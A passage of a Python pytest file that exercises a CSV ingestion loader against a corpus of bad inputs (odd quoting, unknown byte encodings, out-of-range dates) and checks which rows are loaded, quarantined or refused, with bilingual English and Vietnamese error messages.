        loaded=1,
    ),
)
def _(inbox):
    rest = ",".join(COVERAGE_ROW[3:])
    text = (
        ",".join(COVERAGE_HEADER)
        + f"\nBáo Hải Phòng,15/03/2025,Hải Phòng đón khách,{rest}"
        + f'\nBáo Hải Phòng,15/03/2025,Tivi 55", 65" giá rẻ,{rest}\n'
    )
    (inbox / "coverage").mkdir()
    (inbox / "coverage" / "tin.csv").write_text(text, encoding="utf-8")


@case(
    "bytes-in-no-known-encoding",
    "payments",
    Refused(("payments/ct.csv", "unknown encoding", "line 2, byte offset 46"), row=2),
)
def _(inbox):
    (inbox / "payments").mkdir()
    header = ",".join(fold(h) for h in PAYMENT_HEADER).encode() + b"\n"
    assert len(header) == 46
    (inbox / "payments" / "ct.csv").write_bytes(header + bytes(range(128, 256)) * 20 + b"\n")


def test_the_corpus_is_large_and_covers_every_outcome():
    assert len(CASES) >= 30
    assert len({c.name for c in CASES}) == len(CASES)
    kinds = {type(c.expect) for c in CASES}
    assert kinds == {Loaded, Quarantined, Refused}


def _tables(con) -> set[str]:
    rows = con.execute(
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'raw'"
    ).fetchall()
    return {name for (name,) in rows}


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_bad_input_corpus(case: Case, inbox: Path, con):
    if case.agencies:
        write_agencies(inbox)
        load(con, "agencies", inbox)
    case.write(inbox)
    expect = case.expect

    if isinstance(expect, Refused):
        before = _tables(con)
        with pytest.raises(BadInputError) as caught:
            load_source(con, case.source, inbox)
        error = caught.value
        for fragment in expect.fragments:
            assert fragment in str(error)
        assert str(error).startswith("file ")
        assert (error.row, error.column) == (expect.row, expect.column)
        assert error.message_vi and unicodedata.is_normalized("NFC", error.message_vi)
        assert _tables(con) == before  # nothing created, nothing written
        return

    result = load(con, case.source, inbox)  # asserts rows read = loaded + quarantined
    (file,) = result.files
    if isinstance(expect, Loaded):
        assert (file.rows_loaded, file.rows_quarantined) == (expect.rows, 0), quarantined(con)
        assert file.rows_duplicate == expect.duplicates
        if expect.check:
            expect.check(con)
        return

    assert (file.rows_loaded, file.rows_quarantined) == (expect.loaded, 1)
    (problem,) = quarantined(con, case.source)
    assert problem["reason_code"] == expect.reason_code
    assert problem["column_name"] == expect.column
    assert problem["_row_number"] == expect.row
    assert problem["value"] == expect.value
    assert problem["_source_file"] == file.path
    assert problem["reason_en"] and problem["reason_vi"] != fold(problem["reason_vi"])
    if expect.reason_code != "invalid_json":
        assert isinstance(json.loads(problem["record_json"]), dict)


def test_a_date_outside_the_files_year_window_names_the_window(inbox, con):
    rows = [PAYMENT_HEADER, PAYMENT_ROW, payment(so_chung_tu="PC-2", ngay_chi="15/03/2099")]
    write_csv(inbox / "payments" / "ct.csv", rows)
    load(con, "payments", inbox)
    (problem,) = quarantined(con, "payments")
    assert problem["reason_en"].endswith(
        "most dates of the file are in 2025; accepted 01/01/2024–31/12/2026"
    )
    assert problem["reason_vi"].endswith("chỉ nhận từ 01/01/2024 đến 31/12/2026")
